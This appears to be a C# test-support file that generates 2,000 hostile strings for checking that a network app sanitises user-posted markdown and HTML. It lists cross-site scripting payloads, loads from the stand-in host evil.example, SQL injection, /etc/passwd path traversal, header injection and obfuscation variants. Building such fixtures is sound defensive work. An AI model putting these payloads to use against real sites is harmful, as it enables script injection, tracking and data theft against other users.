@@ -1,0 +1,122 @@
+using System.Globalization;
+
+namespace Ioa.Network.Tests.Support;
+
+/// <summary>Two thousand texts that try to be more than text. Whatever runs sets <c>window.hostile</c>, opens a dialog or asks another site.</summary>
+public static class HostileStrings
+{
+    public const int Count = 2_000;
+
+    private const string Run = "window.hostile=1;alert(1)";
+
+    private static readonly string[] Attacks =
+    [
+        $"<script>{Run}</script>",
+        $"<ScRiPt>{Run}</sCrIpT>",
+        "<script src=//evil.example/x.js></script>",
+        $"<img src=x onerror=\"{Run}\">",
+        $"<img src=x onerror={Run}//",
+        "<img src=http://evil.example/pixel.png>",
+        $"<svg onload=\"{Run}\">",
+        $"<svg><script>{Run}</script></svg>",
+        $"<svg><animate onbegin={Run} attributeName=x dur=1s>",
+        "<svg><image href=\"http://evil.example/a.svg\"/></svg>",
+        "<iframe src=\"http://evil.example/\"></iframe>",
+        $"<iframe srcdoc=\"<script>parent.{Run}</script>\"></iframe>",
+        $"<body onload={Run}>",
+        $"<details open ontoggle=\"{Run}\">",
+        $"<video><source onerror=\"{Run}\"></video>",
+        $"<input autofocus onfocus={Run}>",
+        $"<a href=\"javascript:{Run}\">klikk</a>",
+        "<a href=\"data:text/html,<script>alert(1)</script>\">klikk</a>",
+        "<base href=\"http://evil.example/\">",
+        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
+        "<link rel=stylesheet href=http://evil.example/x.css>",
+        "<style>@import 'http://evil.example/x.css'; body{display:none}</style>",
+        "<div style=\"position:fixed;inset:0;background:url(http://evil.example/b.png)\">",
+        "<object data=\"http://evil.example/x.swf\"></object>",
+        "<embed src=\"http://evil.example/x\">",
+        "<form action=\"http://evil.example/\"><button>Send</button></form>",
+        $"<math><mtext></mtext><mglyph><style><img src onerror={Run}></style></mglyph></math>",
+        "</article></div></main></body></html>",
+        "</textarea></title></style></script>",
+        "<!-- <![CDATA[ <? ",
+        "-->]]>\"'><",
+        "\"><\"'`",
+        $"\" onmouseover=\"{Run}\" autofocus x=\"",
+        $"' onfocus='{Run}' autofocus '",
+        $"[klikk](javascript:{Run})",
+        $"[klikk](JaVaScRiPt:{Run})",
+        $"[klikk](  javascript&colon;{Run})",
+        $"[klikk](java\tscript:{Run})",
+        $"[klikk](vbscript:{Run})",
+        "[klikk](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        $"![bilde](javascript:{Run})",
+        "![bilde](http://evil.example/pixel.png)",
+        "![bilde](//evil.example/pixel.png)",
+        $"[klikk](https://ok.example \"x\" onmouseover=\"{Run}\")",
+        $"[klikk](https://ok.example/\"onmouseover=\"{Run})",
+        $"<javascript:{Run}>",
+        $"[a]: javascript:{Run}\n[a]",
+        $"```\"><script>{Run}</script>\n<script>{Run}</script>\n```",
+        $"`<script>{Run}</script>`",
+        $"| <script>{Run}</script> | x |\n|---|---|\n| <img src=x onerror={Run}> | y |",
+        $"&lt;script&gt;{Run}&lt;/script&gt;",
+        $"&#60;script&#62;{Run}&#60;/script&#62;",
+        $"\\u003cscript\\u003e{Run}\\u003c/script\\u003e",
+        "\u202e\u202dgnp.exe\u202c <b>snudd</b>",
+        "\u2066\u2067\u2068 <i>isolert</i>",
+        "a\u0000b\u0007c\u001bd\u007f",
+        "\ufeff\u200b\u200d\u2028\u2029",
+        "\ud800 alene \udfff",
+        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
+        "{{constructor.constructor('window.hostile=1')()}}",
+        "${window.hostile=1}",
+        "@(window.hostile=1) @Html.Raw(\"x\")",
+        "{0} {1} {99999} {",
+        "%00%0d%0aSet-Cookie: x=1",
+        "'; DROP TABLE \"Posts\"; --",
+        "../../../../etc/passwd",
+        "> > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > dypt",
+        "<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<<",
+        "**__*_~~`[](<>)\\",
+        "<p id=\"innhold\"><h1>Falsk</h1>",
+    ];
+
+    private static readonly Func<string, string>[] Ways =
+    [
+        text => text,
+        text => text.Replace("<", "< ", StringComparison.Ordinal),
+        text => text.Replace("<", "<\n", StringComparison.Ordinal),
+        text => "Hei " + text + " hei",
+        text => "<div>" + text,
+        text => "- " + text,
+        text => "> " + text,
+        text => "# " + text,
+        text => "1. " + text + "\n   " + text,
+        text => "[" + text + "](https://ok.example)",
+        text => "![" + text + "](https://ok.example/x.png)",
+        text => "[x](<" + text + ">)",
+        text => "*" + text + "*",
+        text => "\"" + text + "\"",
+        text => text + text,
+        text => new string('[', 200) + text,
+        text => text.ToUpperInvariant(),
+        text => text.Replace(' ', '/'),
+        text => text.Replace(" ", "\u00a0", StringComparison.Ordinal),
+        text => "@" + text,
+        text => "<" + text + ">",
+        text => "\\" + text,
+        text => text.Replace("=", "&#61;", StringComparison.Ordinal),
+        text => "<!--" + text + "-->",
+        text => "<noscript><p title=\"</noscript>" + text + "\">",
+        text => "https://ok.example/" + text,
+        text => "\t" + text,
+        text => "| " + text + " |\n|---|\n| " + text + " |",
+        text => text.Replace("script", "scr\u0000ipt", StringComparison.OrdinalIgnoreCase),
+    ];
+
+    /// <summary>All of them, each with its own number so that one can be told from another.</summary>
+    public static IReadOnlyList<string> All { get; } =
+        [.. Enumerable.Range(0, Count).Select(i => Ways[i / Attacks.Length % Ways.Length](Attacks[i % Attacks.Length]) + " #" + i.ToString(CultureInfo.InvariantCulture))];
+}
